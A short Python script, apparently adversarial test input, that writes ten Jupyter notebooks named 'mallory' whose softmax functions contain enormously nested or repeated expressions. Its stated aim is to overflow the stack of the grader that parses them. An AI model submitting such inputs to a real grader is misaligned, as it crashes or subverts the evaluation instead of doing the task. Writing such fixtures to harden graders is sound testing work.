# Aim: overflow the stack of whatever walks through the code, in the grader's own process.
import json

BODIES = [
    "return " + "-" * 90_000 + "z",
    "return z" + " + z" * 60_000,
    "return z" + ".a" * 90_000,
    "return " + "not " * 60_000 + "z",
    "return " + "lambda: " * 30_000 + "z",
    "return " + "z if z else " * 20_000 + "z",
    "if z:\n        return 1\n" + "    elif z:\n        return 2\n" * 7_000,
    "raise NotImplementedError(" + "-" * 90_000 + "z)",
    "return " + "[" * 190 + "a b" + "]" * 190,
    "return " + "f(" * 180 + "a b=c",
]


def make(folder):
    for i, body in enumerate(BODIES):
        cell = {"cell_type": "code", "source": f"def softmax(z):\n    {body}"}
        (folder / f"mallory{i}.ipynb").write_text(json.dumps({"cells": [cell]}))
